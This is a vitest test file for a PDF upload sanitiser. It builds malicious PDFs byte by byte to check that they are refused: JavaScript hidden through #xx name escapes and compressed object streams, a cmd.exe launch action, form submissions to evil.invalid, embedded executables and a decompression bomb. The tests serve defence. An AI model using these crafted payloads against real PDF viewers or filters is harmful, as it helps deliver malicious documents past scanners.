/**
 * PDFs are read with a real parser, not searched as text: names may be written with #xx escapes and
 * objects may sit compressed inside object streams, and a viewer reads both. The files here are
 * built byte by byte, the way a hostile sender would, with a valid cross-reference stream.
 */
import { describe, expect, it } from 'vitest';
import { once } from 'node:events';
import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { cleanUpload } from './index.ts';

function xrefRow(type: number, field2: number, field3: number): Buffer {
  const row = Buffer.alloc(7);
  row.writeUInt8(type, 0);
  row.writeUInt32BE(field2, 1);
  row.writeUInt16BE(field3, 5);
  return row;
}

/**
 * A PDF 1.5 file. `objects` are written as they are, numbered from 1 (object 1 is the catalog);
 * `packed` go, numbered after them, into one FlateDecode object stream; a cross-reference stream
 * indexes all of them, as a real writer does.
 */
function buildPdf(objects: string[], packed: string[] = [], trailer = ''): Uint8Array {
  const chunks: Buffer[] = [];
  let offset = 0;
  const write = (chunk: Buffer) => {
    chunks.push(chunk);
    offset += chunk.length;
  };
  const rows: Buffer[] = [xrefRow(0, 0, 0xffff)];
  write(Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1'));
  for (const [index, body] of objects.entries()) {
    rows.push(xrefRow(1, offset, 0));
    write(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, 'latin1'));
  }
  let next = objects.length + 1;
  if (packed.length > 0) {
    const streamNumber = next++;
    let header = '';
    let body = '';
    for (const [index, object] of packed.entries()) {
      header += `${next + index} ${Buffer.byteLength(body, 'latin1')} `;
      body += `${object}\n`;
    }
    const data = deflateSync(Buffer.from(header + body, 'latin1'));
    rows.push(xrefRow(1, offset, 0));
    write(Buffer.from(`${streamNumber} 0 obj\n<</Type/ObjStm/N ${packed.length}/First ${Buffer.byteLength(header)}/Filter/FlateDecode/Length ${data.length}>>\nstream\n`, 'latin1'));
    write(Buffer.concat([data, Buffer.from('\nendstream\nendobj\n')]));
    for (const index of packed.keys()) rows.push(xrefRow(2, streamNumber, index));
    next += packed.length;
  }
  const xrefNumber = next;
  const xrefOffset = offset;
  rows.push(xrefRow(1, xrefOffset, 0));
  const table = deflateSync(Buffer.concat(rows));
  write(Buffer.from(`${xrefNumber} 0 obj\n<</Type/XRef/Size ${xrefNumber + 1}/W[1 4 2]/Root 1 0 R${trailer}/Filter/FlateDecode/Length ${table.length}>>\nstream\n`, 'latin1'));
  write(Buffer.concat([table, Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`)]));
  return new Uint8Array(Buffer.concat(chunks));
}

const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>';

async function expectRefused(bytes: Uint8Array, reason: RegExp) {
  expect(await cleanUpload(bytes)).toEqual({ ok: false, message: expect.stringMatching(reason) });
}

describe('PDF attachments', () => {
  it('keeps a plain PDF, written again from its checked objects, without its author and title', async () => {
    const doc = await PDFDocument.create();
    doc.setAuthor('张三');
    doc.setTitle('后营村门面房租金收据');
    doc.addPage([595, 842]).drawRectangle({ x: 50, y: 700, width: 200, height: 40 });
    const original = await doc.save(); // with object streams, as most writers today
    const cleaned = await cleanUpload(original);
    expect(cleaned).toMatchObject({ ok: true, mime: 'application/pdf', stripped: true });
    if (!cleaned.ok) return;
    const stored = await PDFDocument.load(cleaned.bytes, { updateMetadata: false });
    expect(stored.getPageCount()).toBe(1);
    expect(stored.getAuthor()).toBeUndefined();
    expect(stored.getTitle()).toBeUndefined();
  });

  it('keeps a hand-written PDF with a plain link and an open-at-page-one action', async () => {
    const link = '<</Type/Annot/Subtype/Link/Rect[50 50 200 80]/A<</S/URI/URI(https://www.ccdi.gov.cn/)>>>>';
    const bytes = buildPdf(['<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>', PAGES, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>', link]);
    expect(await cleanUpload(bytes)).toMatchObject({ ok: true, mime: 'application/pdf' });
  });

  it('refuses JavaScript whose name is written with #xx escapes', async () => {
    await expectRefused(buildPdf(['<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>', PAGES, PAGE]), /脚本/);
    // As a key alone (a document-level script tree), and with lower-case hex digits.
    await expectRefused(buildPdf(['<</Type/Catalog/Pages 2 0 R/Names<</Java#53cript<</Names[(a) 4 0 R]>>>>>>', PAGES, PAGE, '<</S/Java#53cript>>']), /脚本/);
    await expectRefused(buildPdf(['<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aava#73cript/#4a#53(app.alert(1))>>>>', PAGES, PAGE]), /脚本/);
  });

  it('refuses JavaScript hidden in a compressed object stream', async () => {
    const bytes = buildPdf(['<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>', PAGES, PAGE], ['<</S/JavaScript/JS(this.submitForm("http://evil.invalid"))>>']);
    expect(Buffer.from(bytes).includes(Buffer.from('JavaScript'))).toBe(false);
    await expectRefused(bytes, /脚本/);
    // The same with a document-level script in the name tree, also packed.
    await expectRefused(
      buildPdf(['<</Type/Catalog/Pages 2 0 R/Names 5 0 R>>', PAGES, PAGE], ['<</JavaScript<</Names[(a) 6 0 R]>>>>', '<</S/JavaScript/JS(app.alert(1))>>']),
      /脚本/,
    );
  });

  it.each([
    ['a launch action', '/OpenAction<</S/#4caunch/F(cmd.exe)>>'],
    ['additional actions on the document', '/#41A<</WC<</S/URI/URI(http://evil.invalid)>>>>'],
    ['an embedded file without a /Type', '/Names<</EmbeddedFiles<</Names[(a.exe) <</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>]>>>>'],
    ['an XFA form', '/AcroForm<</Fields[]/XFA 3 0 R>>'],
    ['a form that sends itself away', '/OpenAction<</S/Submit#46orm/F(http://evil.invalid)>>'],
    ['an import action', '/OpenAction<</S/ImportData/F(data.fdf)>>'],
    ['rich media', '/OpenAction<</S/RichMediaExecute/TA 3 0 R>>'],
  ])('refuses %s', async (_label, catalogEntry) => {
    await expectRefused(buildPdf([`<</Type/Catalog/Pages 2 0 R${catalogEntry}>>`, PAGES, PAGE]), /脚本|嵌入/);
  });

  it('refuses what does not parse as a PDF, and encrypted PDFs, saying why', async () => {
    const garbage = new Uint8Array(Buffer.from('%PDF-1.7\n这不是PDF，只是一段文字 \u0000\u0001 <<< ]]\n%%EOF\n'));
    await expectRefused(garbage, /损坏|无法检查/);
    const encrypted = buildPdf(
      ['<</Type/Catalog/Pages 2 0 R>>', PAGES, PAGE, `<</Filter/Standard/V 2/R 3/Length 128/P -3904/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>`],
      [],
      `/Encrypt 4 0 R/ID[<${'01'.repeat(16)}><${'01'.repeat(16)}>]`,
    );
    await expectRefused(encrypted, /密码/);
  });

  it('refuses an object stream that inflates far beyond any real document', async () => {
    // 256 MB of spaces in about 250 KB; read in full, it takes the parser seconds and hundreds of MB.
    const deflate = createDeflate({ level: 9 });
    const pieces: Buffer[] = [];
    deflate.on('data', (piece: Buffer) => pieces.push(piece));
    const block = Buffer.alloc(1024 * 1024, 0x20);
    for (let i = 0; i < 256; i++) if (!deflate.write(block)) await once(deflate, 'drain');
    deflate.end();
    await once(deflate, 'end');
    const bomb = Buffer.concat(pieces);
    const head = Buffer.from(`%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>>\nstream\n`);
    const bytes = Buffer.concat([head, bomb, Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 3>>\n%%EOF\n')]);
    const started = Date.now();
    await expectRefused(new Uint8Array(bytes), /无法检查/);
    expect(Date.now() - started).toBeLessThan(3_000);
  });

  it('stores only the objects it checked: a shadowed copy of an object number does not survive', async () => {
    // Two definitions of object 4: a viewer following an old cross-reference table may read the first.
    const text = [
      '%PDF-1.4',
      '1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>> endobj',
      `2 0 obj ${PAGES} endobj`,
      `3 0 obj ${PAGE} endobj`,
      '4 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj',
      '4 0 obj [3 0 R/Fit] endobj',
      'trailer <</Root 1 0 R/Size 5>>',
      '%%EOF',
    ].join('\n');
    const cleaned = await cleanUpload(new Uint8Array(Buffer.from(text, 'latin1')));
    expect(cleaned.ok).toBe(true);
    if (cleaned.ok) expect(Buffer.from(cleaned.bytes).includes(Buffer.from('JavaScript'))).toBe(false);
  });
});
